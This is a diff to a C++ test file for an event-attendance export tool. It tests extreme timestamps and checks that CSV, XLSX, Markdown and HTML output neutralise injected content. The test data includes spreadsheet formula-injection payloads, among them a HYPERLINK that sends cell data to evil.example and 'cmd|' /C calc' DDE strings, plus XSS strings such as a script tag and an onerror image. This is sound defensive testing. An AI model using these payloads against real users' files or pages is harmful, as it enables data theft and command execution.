@@ -3,13 +3,23 @@
 #include <google/protobuf/util/json_util.h>
 #include <gtest/gtest.h>
 
+#include <unistd.h>
+
+#include <algorithm>
+#include <cctype>
+#include <filesystem>
+#include <fstream>
 #include <map>
 #include <sstream>
 
 #include "rollcall/v1/export.pb.h"
+#include "services/export/csv_sink.h"
 #include "services/export/export_job.h"
+#include "services/export/xlsx_sink.h"
 #include "services/registry/csv_reader.h"
+#include "services/store/keys.h"
 #include "tests/services/export/event_fixture.h"
+#include "tests/support/gateway_process.h"
 #include "tools/export/event_reader.h"
 
 namespace rollcall::services::exporting {
@@ -165,9 +175,10 @@ TEST_F(ExportTest, ScansListEveryLoggedScan) {
   event_.add_presence();  // joins and leaves are not scans
   const auto csv = parse_csv(run(Table::scans, Format::csv));
   ASSERT_EQ(csv.size(), 1u + 19);  // the replayed s1 changed nothing and is not logged twice
-  EXPECT_EQ(csv[0], (std::vector<std::string>{"log_id", "scan_id", "badge_id", "desk_id", "zone",
-                                              "direction", "status", "reason", "device_time",
-                                              "server_time", "day", "late"}));
+  EXPECT_EQ(csv[0],
+            (std::vector<std::string>{"log_id", "scan_id", "badge_id", "desk_id", "zone",
+                                      "direction", "status", "reason", "device_time", "server_time",
+                                      "day", "late", "device_time_ignored"}));
   std::map<std::string, std::string> status_of;
   for (std::size_t r = 1; r < csv.size(); ++r) status_of[csv[r][1]] = csv[r][6];
   EXPECT_EQ(status_of["s1"], "accepted");
@@ -179,6 +190,7 @@ TEST_F(ExportTest, ScansListEveryLoggedScan) {
   EXPECT_EQ(status_of["s17"], "not_allowed");
   EXPECT_EQ(csv[1][1], "s1");  // log order
   for (std::size_t r = 1; r < csv.size(); ++r) {
+    EXPECT_EQ(csv[r][12], "no") << csv[r][1];
     if (csv[r][1] != "s11") {
       EXPECT_EQ(csv[r][11], "no") << csv[r][1];
       continue;
@@ -275,6 +287,292 @@ TEST_F(ExportTest, HeadlineReportInThreeLanguages) {
   EXPECT_CONTAINS(ar, "8 مشاركين");
   EXPECT_CONTAINS(ar, "7 دول");
   EXPECT_CONTAINS(ar, "الوزراء ونواب الوزراء: 1");
+}
+
+// Times from before this gateway believed only plausible clocks (or from a hand-edited log):
+// year 1 and 9999, as join and leave times, as server times and as device times. The export's
+// work and memory follow the entries, never the span between their times.
+TEST_F(ExportTest, ExtremeTimesInTheLogCostEntriesNotTheirSpan) {
+  event_.add_presence();
+  constexpr std::int64_t kYear1 = -62'135'596'800'000, kYear9999 = 253'402'300'799'000;
+  const auto d2 = ExportEvent::at("2025-07-08", "11:00"),
+             d3 = ExportEvent::at("2025-07-09", "09:00");
+  auto xadd = [&](std::vector<std::string> fields) {
+    std::vector<std::string> command = {"XADD", store::log_key(ExportEvent::kEvent), "*"};
+    command.insert(command.end(), fields.begin(), fields.end());
+    event_.redis().command(command);
+  };
+  auto presence = [&](const std::string& kind, const std::string& status,
+                      const std::string& participant, const std::string& badge,
+                      const std::string& day, std::int64_t time_ms, std::int64_t server_ms) {
+    xadd({"type",
+          kind,
+          "presence_id",
+          participant + kind,
+          "participant_id",
+          participant,
+          "badge_id",
+          badge,
+          "country",
+          "",
+          "category",
+          "",
+          "platform",
+          "zoom",
+          "session",
+          "s",
+          "status",
+          status,
+          "day",
+          day,
+          "time_ms",
+          std::to_string(time_ms),
+          "server_ms",
+          std::to_string(server_ms),
+          "via",
+          "bridge",
+          "count",
+          "1"});
+  };
+  auto scan = [&](const std::string& id, const std::string& badge, const std::string& status,
+                  const std::string& direction, std::int64_t device_ms, std::int64_t server_ms) {
+    xadd({"type",      "scan",
+          "scan_id",   id,
+          "badge_id",  badge,
+          "desk_id",   "d",
+          "zone",      "hall",
+          "direction", direction,
+          "status",    status,
+          "day",       "2025-07-09",
+          "device_ms", std::to_string(device_ms),
+          "server_ms", std::to_string(server_ms),
+          "late",      "0"});
+  };
+  // A3 joined with a year-1 clock and left with a year-9999 one, an hour apart by the server.
+  presence("join", "joined", "PX", "A3", "2025-07-08", kYear1, d2);
+  presence("leave", "left", "PX", "A3", "2025-07-08", kYear9999, d2 + 3'600'000);
+  // A5's join has a year-1 server time itself; A1 joined in 9999 and never left.
+  presence("join", "joined", "PY", "A5", "2025-07-08", kYear1, kYear1);
+  presence("leave", "left", "PY", "A5", "2025-07-08", d2, d2);
+  presence("join", "joined", "PZ", "A1", "2025-07-09", kYear9999, kYear9999);
+  presence("join", "joined", "PW", "", "0001-01-01", INT64_MIN, INT64_MIN);
+  // A7 entered and left by a desk whose clock said 31 December 9999.
+  scan("x1", "A7", "accepted", "in", kYear9999, d3);
+  scan("x2", "A7", "exit", "out", kYear9999, d3 + 3'600'000);
+  scan("x3", "A7", "exit", "out", INT64_MAX, d3 + 3'700'000);
+
+  std::string error;
+  tools::import::RedisSession session(*gateway::redis::Url::parse(event_.redis().url(), &error));
+  tools::exporting::EventReader reader(session, ExportEvent::kEvent);
+  const auto event = reader.event();
+  const auto registry = reader.registry();
+  AttendanceFold fold(event, registry);
+  std::size_t entries = 0;
+  reader.read_log([&](const std::vector<LogEntry>& chunk) {
+    for (const auto& entry : chunk) fold.feed(entry);
+    entries += chunk.size();
+  });
+  fold.finish();
+  // Per person: the event's three days, and at most the day at each end of a session.
+  for (const auto& badge : registry) {
+    if (const auto* person = fold.badge_person(badge.badge_id())) {
+      EXPECT_LE(person->days.size(), 5u) << badge.badge_id();
+    }
+  }
+
+  const auto attendees = parse_csv(run(Table::attendees, Format::csv));
+  ASSERT_EQ(attendees.size(), 1u + registry.size());
+  auto a7 = find_row(attendees, {"A7"});
+  EXPECT_EQ(a7["2025-07-09 first_entry"], "09:00:00");  // the server's clock, not 9999's
+  EXPECT_EQ(a7["2025-07-09 last_exit"], "10:01:40");
+  auto a3 = find_row(attendees, {"A3"});
+  EXPECT_EQ(a3["2025-07-08 minutes_online"], "60");
+
+  const auto scans = parse_csv(run(Table::scans, Format::csv));
+  std::size_t ignored = 0;
+  for (std::size_t r = 1; r < scans.size(); ++r) {
+    if (!scans[r][1].starts_with("x")) continue;
+    EXPECT_EQ(scans[r][8], "") << scans[r][1];  // no device time shown
+    EXPECT_EQ(scans[r][12], "yes") << scans[r][1];
+    ++ignored;
+  }
+  EXPECT_EQ(ignored, 3u);
+  // Every other table and format is written too, with every time inside protobuf's range.
+  EXPECT_EQ(run(Table::scans, Format::json).find("9999-12-31"), std::string::npos);
+  for (const auto table : {Table::countries, Table::categories, Table::summary}) {
+    EXPECT_FALSE(run(table, Format::csv).empty());
+  }
+  EXPECT_FALSE(run(Table::attendees, Format::json).empty());
+  EXPECT_FALSE(run(Table::all, Format::xlsx).empty());
+  EXPECT_FALSE(run(Table::summary, Format::md).empty());
+  EXPECT_GT(entries, 9u);
+}
+
+// Every lead a spreadsheet runs as a formula, ASCII and full-width, bare or behind what a
+// spreadsheet may skip, before formula bodies of the kinds attackers use.
+std::vector<std::string> formula_payloads() {
+  std::vector<std::string> payloads;
+  for (const char* lead :
+       {"=", "+", "-", "@", "\t", "\r", "\n", "\uFF1D", "\uFF0B", "\uFF0D", "\uFF20"}) {
+    for (const char* before : {"", " ", "   ", "\u00A0", "\uFEFF", "\u3000", " \uFEFF "}) {
+      for (const char* body : {"1+1", "HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")",
+                               "cmd|' /C calc'!A0", "SUM(1+1)*cmd|' /C calc'!A0", "2+3"}) {
+        payloads.push_back(std::string(before) + lead + body);
+      }
+    }
+  }
+  return payloads;
+}
+
+TEST(CsvSinkTest, FormulaLikeTextIsInertAndNumbersStayNumbers) {
+  for (const auto& payload : formula_payloads()) {
+    EXPECT_EQ(inert_text(payload), "'" + payload) << payload;
+  }
+  for (const char* harmless : {"", "Zoë Müller", "1+1", "a=b", "UN-Habitat", "'=1", "<3",
+                               "2025-07-07", "09:00:00", "\"=1\""}) {
+    EXPECT_EQ(inert_text(harmless), harmless) << harmless;
+  }
+  CsvSink sink;
+  sink.begin_table("t", {"a", "b", "c", "d", "e"});
+  sink.row({std::string("=1+1"), std::int64_t{-5}, std::string("-5"), std::string("@SUM(1;2)"),
+            std::string("x\t=1")},
+           v1::SummaryRow{});
+  std::string out;
+  ASSERT_TRUE(sink.take(&out, 1 << 20));
+  // Numbers stay bare numbers; text that a spreadsheet would split or run is quoted and inert.
+  EXPECT_EQ(out, "a,b,c,d,e\r\n'=1+1,-5,'-5,\"'@SUM(1;2)\",\"x\t=1\"\r\n");
+}
+
+// Unescaped Markdown markup: characters that mean something inline, and what opens a block at
+// the start of a line. An escaped character (backslash before ASCII punctuation) is text.
+std::size_t markdown_markup(const std::string& md) {
+  std::size_t count = 0;
+  bool line_start = true;
+  for (std::size_t i = 0; i < md.size(); ++i) {
+    const char c = md[i];
+    if (c == '\\' && i + 1 < md.size() && std::ispunct(static_cast<unsigned char>(md[i + 1]))) {
+      ++i;
+      line_start = false;
+      continue;
+    }
+    if (std::string_view("`*_[]<>|~!&$").find(c) != std::string_view::npos) ++count;
+    if (line_start) {
+      const auto line = std::string_view(md).substr(i, md.find('\n', i) - i);
+      const auto digits = line.find_first_not_of("0123456789");
+      if (std::string_view("#+-=").find(c) != std::string_view::npos) ++count;
+      if (digits > 0 && digits < line.size() && (line[digits] == '.' || line[digits] == ')')) {
+        ++count;  // an ordered list
+      }
+      if (line.starts_with("    ") || line.starts_with("\t")) ++count;  // indented code
+    }
+    line_start = c == '\n';
+  }
+  return count;
+}
+
+TEST(HeadlineReportTest, TextFromTheEventFileIsNeverMarkup) {
+  auto report = [](const std::string& text, ReportFormat format) {
+    v1::Event event;
+    event.set_event_id("ev");
+    event.set_name(text);
+    auto* category = event.add_categories();
+    category->set_id("guests");
+    category->set_label(text);
+    category->set_headline(true);
+    const std::vector<Figure> figures = {{"participants", "", "", "", 3},
+                                         {"category", "", "guests", text, 2, true}};
+    return headline_report(event, {"2025-07-07"}, figures, Language::en, format);
+  };
+  const auto md_base = report("Plain", ReportFormat::md);
+  const auto txt_base = report("Plain", ReportFormat::txt);
+  const auto html_base = report("Plain", ReportFormat::html);
+  auto lines = [](const std::string& text) { return std::count(text.begin(), text.end(), '\n'); };
+  auto count = [](const std::string& text, char c) {
+    return std::count(text.begin(), text.end(), c);
+  };
+  std::vector<std::string> payloads = formula_payloads();
+  for (const char* markup : {"# Heading",
+                             "## x",
+                             "- item",
+                             "+ item",
+                             "* item",
+                             "1. item",
+                             "2025) item",
+                             "> quote",
+                             "    indented code",
+                             "```\ncode\n```",
+                             "| a | b |",
+                             "a | b",
+                             "**bold** _it_ ~~s~~",
+                             "[link](http://evil.example)",
+                             "![img](http://evil.example/x.png)",
+                             "<script>alert(1)</script>",
+                             "<img src=x onerror=alert(1)>",
+                             "&lt;b&gt;",
+                             "line\nbreak",
+                             "a\r\n# b",
+                             "===",
+                             "---",
+                             "$x^2$",
+                             "\x1b[31mred\x1b[0m",
+                             "\u0085next line",
+                             "back\\slash"}) {
+    payloads.push_back(markup);
+  }
+  for (const auto& payload : payloads) {
+    const auto md = report(payload, ReportFormat::md);
+    EXPECT_EQ(markdown_markup(md), markdown_markup(md_base)) << payload << "\n" << md;
+    EXPECT_EQ(lines(md), lines(md_base)) << payload << "\n" << md;
+    const auto txt = report(payload, ReportFormat::txt);
+    EXPECT_EQ(lines(txt), lines(txt_base)) << payload;
+    EXPECT_EQ(std::count_if(txt.begin(), txt.end(),
+                            [](unsigned char c) { return (c < 0x20 && c != '\n') || c == 0x7f; }),
+              0)
+        << payload;
+    EXPECT_EQ(txt.find("\u0085"), std::string::npos) << payload;
+    const auto html = report(payload, ReportFormat::html);
+    EXPECT_EQ(count(html, '<'), count(html_base, '<')) << payload;
+    EXPECT_EQ(count(html, '>'), count(html_base, '>')) << payload;
+  }
+  // Escaped, not lost: the words are still there.
+  EXPECT_CONTAINS(report("WSIS+20 <Geneva>", ReportFormat::md), "WSIS+20 \\<Geneva\\>");
+  EXPECT_CONTAINS(report("WSIS+20 <Geneva>", ReportFormat::html), "WSIS+20 &lt;Geneva&gt;");
+  EXPECT_CONTAINS(report("a\nb", ReportFormat::txt), "a b took place");
+}
+
+TEST(XlsxSinkTest, FormulaLikeTextIsStoredAsText) {
+  XlsxSink sink;
+  sink.begin_table("t", {"name"});
+  const auto payloads = formula_payloads();
+  for (const auto& payload : payloads) sink.row({payload}, v1::SummaryRow{});
+  sink.finish();
+  std::string bytes, chunk;
+  while (sink.take(&chunk, 1 << 20)) bytes += chunk;
+  const auto path = std::filesystem::temp_directory_path() /
+                    ("rollcall-xlsx-test-" + std::to_string(::getpid()) + ".xlsx");
+  std::ofstream(path, std::ios::binary) << bytes;
+  std::string xml;
+  ASSERT_EQ(tests::support::run_program(
+                {"/usr/bin/python3", "-c",
+                 "import sys, zipfile\n"
+                 "book = zipfile.ZipFile(sys.argv[1])\n"
+                 "for name in book.namelist():\n"
+                 "    if name.startswith('xl/worksheets/'): print(book.read(name).decode())\n",
+                 path.string()},
+                &xml),
+            0)
+      << xml;
+  std::filesystem::remove(path);
+  EXPECT_EQ(xml.find("<f>"), std::string::npos);
+  EXPECT_EQ(xml.find("<f "), std::string::npos);
+  // Every payload a string cell (inline strings: the workbook is written in constant memory).
+  std::size_t strings = 0;
+  for (auto at = xml.find("t=\"inlineStr\""); at != std::string::npos;
+       at = xml.find("t=\"inlineStr\"", at + 1)) {
+    ++strings;
+  }
+  EXPECT_EQ(strings, 1 + payloads.size());
+  EXPECT_CONTAINS(xml, "<t>=HYPERLINK(\"http://evil.example/?x=\"&amp;A1");
 }
 
 TEST(HeadlineWords, NumbersAndPlurals) {
